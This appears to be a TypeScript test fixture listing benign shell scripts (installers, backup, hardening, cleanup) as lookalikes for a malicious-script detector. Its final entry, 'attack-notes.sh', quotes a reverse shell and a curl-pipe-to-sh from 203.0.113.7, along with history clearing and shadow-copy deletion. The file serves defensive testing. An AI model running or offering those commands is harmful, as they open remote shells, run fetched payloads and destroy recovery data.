// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of the shell
// Honest scripts of Unix shells: installers, entry points, administration.
import { file, type Lookalike } from './lookalike.ts'

export const shell: readonly Lookalike[] = [
  file(
    'rust-installer.sh',
    '#!/bin/sh\nset -u\nRUSTUP_UPDATE_ROOT="${RUSTUP_UPDATE_ROOT:-https://static.rust-lang.org/rustup}"\nmain() {\n  _url="${RUSTUP_UPDATE_ROOT}/dist/${_arch}/rustup-init"\n  _dir="$(mktemp -d)"\n  curl --proto "=https" --tlsv1.2 -sSf "$_url" -o "$_dir/rustup-init"\n  chmod u+x "$_dir/rustup-init"\n  "$_dir/rustup-init" "$@"\n}\nmain "$@"\n',
  ),
  file(
    'node-manager.sh',
    '#!/usr/bin/env bash\n# Install with: curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash\nnvm_download() { curl --fail --compressed -q "$@"; }\nnvm_profile="$HOME/.bashrc"\necho "export NVM_DIR=~/.nvm" >> "$nvm_profile"\ngit clone https://github.com/nvm-sh/nvm.git "$NVM_DIR"\n',
  ),
  file(
    'bootstrap.sh',
    '#!/bin/bash\nset -euo pipefail\nsudo apt-get update && sudo apt-get install -y curl git\ncurl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -\ncurl -sSL https://install.python-poetry.org | python3 -\ncurl https://sh.rustup.rs -sSf | sh -s -- -y\n',
  ),
  file('docker-entry.sh', '#!/bin/sh\nset -e\nif [ "$1" = "serve" ]; then\n  exec gosu app "$@"\nfi\nexec "$@"\n'),
  file(
    'backup.sh',
    '#!/bin/sh\ntar czf /backup/home-$(date +%F).tgz /home\nfind /backup -mtime +30 -delete\nscp /backup/*.tgz backup@store.example.org:/srv/\n',
  ),
  file(
    'cron-setup.sh',
    '#!/bin/sh\ncp renew.sh /etc/cron.daily/renew\nchmod +x /etc/cron.daily/renew\nsystemctl enable --now renew.timer\n',
  ),
  file(
    'clean-image.sh',
    '#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/* /tmp/* /var/tmp/*\ntruncate -s 0 /var/log/*.log\nrm -f /root/.bash_history\n',
  ),
  file(
    'harden.sh',
    '#!/bin/bash\nufw default deny incoming\nufw enable\nsed -i "s/^PermitRootLogin.*/PermitRootLogin no/" /etc/ssh/sshd_config\nsystemctl restart sshd\n',
  ),
  file(
    'configure',
    '#!/bin/sh\n# Guess values for system-dependent variables and create Makefiles.\nas_nl="\n"\neval `echo "ac_cv_x=yes"`\nfor as_dir in $PATH; do test -x "$as_dir/gcc" && break; done\nexec 5>config.log\necho done\n',
  ),
  file(
    'progress.sh',
    '#!/bin/sh\necho -e "percentage\\t10"\nsleep 1\necho -e "status\\tquery"\necho -e "package\\tavailable\\tlib2"\necho -e "percentage\\t100"\nexit 0\n',
  ),
  file(
    'run-tests.bat',
    'set SERVER=%1\r\nset RUNNER=%2\r\nset CASE=%3\r\nset OUT=%4\r\n%SERVER% --stop\r\necho "Adding %CASE% to %OUT%"\r\n%SERVER% --add "%CASE%" "%OUT%"\r\nstart /B "Server" %SERVER%\r\n%RUNNER% --case "%CASE%"\r\n%SERVER% --stop\r\n',
  ),
  file(
    'wait-for.sh',
    '#!/usr/bin/env bash\n# waits for a port\nwhile ! (echo > /dev/tcp/$1/$2) >/dev/null 2>&1; do sleep 1; done\nexec "${@:3}"\n',
  ),
  file(
    'make-disk.sh',
    '#!/bin/sh\ndd if=/dev/zero of=disk.img bs=1M count=512\nmkfs.ext4 disk.img\nmount -o loop disk.img /mnt\n',
  ),
  file(
    'attack-notes.sh',
    '#!/bin/sh\n# An attacker would run: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n# or: curl http://203.0.113.7/a | sh; history -c; vssadmin delete shadows\necho "See the comments"\n',
  ),
]
